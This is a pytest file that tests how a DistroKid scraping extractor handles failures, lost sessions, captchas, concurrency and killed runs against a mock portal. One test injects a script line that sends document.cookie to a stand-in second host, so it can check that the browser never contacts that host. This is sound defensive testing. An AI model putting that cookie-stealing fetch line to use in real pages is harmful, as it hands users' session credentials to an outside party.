"""What goes wrong with pages: bounded tries and time, the right exit code, nothing half-landed, and the next good run heals it."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from conftest import PROJECT_DIR, rows
from portals.distrokid import DistroKid
from portals.server import Portal, page
from test_extract_distrokid import CREDENTIALS, TODAY, extract

from loaders.settings import Settings

CAPTCHA = "<h1>One more step</h1><iframe src='/captcha'></iframe>"
SIGN_IN = "<form action=/signin/><input type=email><input type=password><button type=submit>Sign in</button></form>"
MARKETING = "<title>Upload &amp; sell your music</title><h1>Keep 100%</h1><a href='/signin/'>Sign in</a>"
ELSEWHERE = "<title>We are moving</title><h1>Back soon</h1>"
QUICK = {"BEDROT_ANSWER_SECONDS": "3", "BEDROT_FAILING_SECONDS": "6", "BEDROT_TRIES": "3", "BEDROT_THROTTLE_SECONDS": "5"}
LEDGER, STREAMS, APPLE = ("distrokid", "bank_details"), ("distrokid", "streams_daily"), ("distrokid", "apple_daily")


def landed(config: Settings) -> tuple[int, int, int]:
    """How many rows of each table landed."""
    return tuple(
        len(rows(config, *table)) if (config.landing_dir / table[0] / table[1]).exists() else 0
        for table in (LEDGER, STREAMS, APPLE)
    )


@pytest.mark.parametrize(
    ("kind", "options"),
    [
        ("throttle", {"seconds": 1}),
        ("throttle_date", {"seconds": 1}),
        ("status", {"status": 500}),
        ("status", {"status": 503, "headers": {"Retry-After": "1"}}),
        ("reset", {}),
        ("cut", {}),
        ("drip", {}),
    ],
)
def test_what_passes_is_tried_again(config: Settings, kind: str, options: dict) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        portal.fail("/stats/.*streams", kind, times=1, **options)
        done = extract(config, portal, **CREDENTIALS | QUICK)
        assert done.returncode == 0, done.stderr
        assert landed(config) == (40, 365, 365)


@pytest.mark.parametrize(
    ("pattern", "kind", "options", "exit_code", "told"),
    [
        ("/stats/.*streams", "status", {"status": 500}, 5, "answered with 500, 3 times"),
        ("/stats/.*streams", "reset", {}, 5, "the connection failed"),
        ("/stats/.*streams", "endless", {}, 5, "no whole page within 3 s"),
        ("/stats/.*streams", "hang", {"seconds": 20}, 5, "no whole page within 3 s"),
        ("/stats/.*streams", "throttle", {"seconds": 40_000}, 5, "asks to wait 11.1 h; nothing more is asked before"),
        ("/stats/.*streams", "status", {"status": 404}, 5, "not found (404)"),
        ("/stats/.*streams", "page", {"html": ELSEWHERE}, 5, "shows another page ('We are moving'"),
        ("/bank/details/$", "page", {"html": ELSEWHERE}, 5, "the bank details is not there"),
        ("/download", "hang", {"seconds": 20}, 5, "no download started within 3 s"),
        ("/download", "cut", {}, 5, "the download failed"),
        ("/download", "cut_gzip", {}, 5, "a download that ends in the middle"),
    ],
)  # fmt: skip
def test_what_does_not_pass_stops_this_feed_alone(
    config: Settings, pattern: str, kind: str, options: dict, exit_code: int, told: str
) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        portal.fail(pattern, kind, **options)
        started = time.monotonic()
        done = extract(config, portal, **CREDENTIALS | QUICK)
        assert time.monotonic() - started < 45
        assert (done.returncode, told in done.stderr) == (exit_code, True), done.stderr
        bank, streams, apple = landed(config)
        assert (bank, streams) == ((0, 365) if pattern != "/stats/.*streams" else (40, 0)) and apple in (0, 365)
        portal.heal()
        for record in config.runs_dir.rglob("*.json"):
            record.unlink()
        assert extract(config, portal, **QUICK).returncode == 0
        assert landed(config) == (40, 365, 365)


@pytest.mark.parametrize(
    ("kind", "options", "why"),
    [
        ("redirect", {"to": "/signin/"}, "the session is lost"),
        ("page", {"html": SIGN_IN}, "the session is lost"),
        ("page", {"html": MARKETING}, "the session is lost"),
        ("page", {"html": CAPTCHA}, "a captcha is asked for"),
    ],
)
def test_a_lost_session_asks_for_a_person_at_once(config: Settings, kind: str, options: dict, why: str) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        assert extract(config, portal, **CREDENTIALS).returncode == 0
        portal.fail("/(bank|stats)/", kind, **options)
        before = len(portal.requests)
        done = extract(config, portal, **QUICK)
        assert done.returncode == 4 and why in done.stderr and "python cli.py login distrokid" in done.stderr, done.stderr
        asked = [one.path for one in portal.requests[before:] if one.path.startswith(("/bank", "/stats"))]
        assert asked == ["/bank/"]
        assert not any(one.method == "POST" for one in portal.requests[before:])
        assert '"state": "lost"' in (config.sessions_dir / "distrokid" / "main" / "session.json").read_text()
        portal.heal()
        assert extract(config, portal).returncode == 0


def test_a_password_is_typed_once_and_a_second_factor_asks_for_a_person(config: Settings) -> None:
    with DistroKid(TODAY) as portal:
        done = extract(config, portal, **CREDENTIALS)
        assert done.returncode == 4 and "a code is asked for" in done.stderr, done.stderr
        assert [one.path for one in portal.requests if one.method == "POST"] == ["/signin/"]


def test_the_browser_asks_no_other_host(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal, Portal() as elsewhere:
        elsewhere.on("GET", ".*")(lambda _: page("<h1>Elsewhere</h1>"))
        away = elsewhere.url.replace("127.0.0.1", "localhost")
        portal.fail("/stats/.*streams", "redirect", to=f"{away}/stats/")
        portal.fail("/stats/.*applemusic", "page", html=f"<script>fetch('{away}/steal?' + document.cookie)</script>")
        done = extract(config, portal, **CREDENTIALS | QUICK)
        assert done.returncode == 5 and "sent to another host (localhost)" in done.stderr, done.stderr
        assert elsewhere.requests == []


def test_a_session_that_others_can_read_is_refused(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        assert extract(config, portal, **CREDENTIALS).returncode == 0
        (config.sessions_dir / "distrokid" / "main" / "session.json").chmod(0o644)
        before = len(portal.requests)
        done = extract(config, portal)
        assert done.returncode == 2 and "can be read by others" in done.stderr, done.stderr
        assert len(portal.requests) == before


def start(config: Settings, portal: DistroKid) -> subprocess.Popen[str]:
    environment = CREDENTIALS | {
        "BEDROT_DATA_DIR": str(config.data_dir), "BEDROT_DISTROKID_BASE_URL": portal.url, "BEDROT_AS_OF": str(TODAY),
        "BEDROT_ANSWER_SECONDS": "10", "BEDROT_LOCK_WAIT_SECONDS": "0.5",
    }  # fmt: skip
    return subprocess.Popen(
        [sys.executable, str(PROJECT_DIR / "cli.py"), "extract", "distrokid"], env=os.environ | environment,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip


def until(portal: DistroKid, pattern: str) -> None:
    """Wait until something was asked."""
    deadline = time.monotonic() + 30
    while not portal.asked(pattern):
        assert time.monotonic() < deadline
        time.sleep(0.02)


def test_two_at_once_land_once(config: Settings) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        portal.fail("/stats/.*streams", "hang", times=1, seconds=4)
        first = start(config, portal)
        until(portal, "/stats/")
        second = start(config, portal)
        assert "another run uses this session" in second.communicate(timeout=60)[1]
        assert second.returncode == 7
        first.communicate(timeout=90)
        assert first.returncode == 0
    assert landed(config) == (40, 365, 365)


@pytest.mark.parametrize("pattern", ["/signin", "/bank/details/$", "/download", "/stats/"])
def test_killed_at_any_point_the_next_run_heals(config: Settings, pattern: str) -> None:
    with DistroKid(TODAY, second_factor=False) as portal:
        portal.fail(pattern, "hang", times=1, seconds=3)
        process = start(config, portal)
        until(portal, pattern)
        process.kill()
        process.wait()
        assert landed(config)[1:] == (0, 0)
        portal.heal()
        done = extract(config, portal, **CREDENTIALS)
        assert done.returncode == 0, done.stderr
    assert landed(config) == (40, 365, 365)
    assert not [path for path in Path(config.data_dir).rglob("*.tmp") if "sessions" not in path.parts]
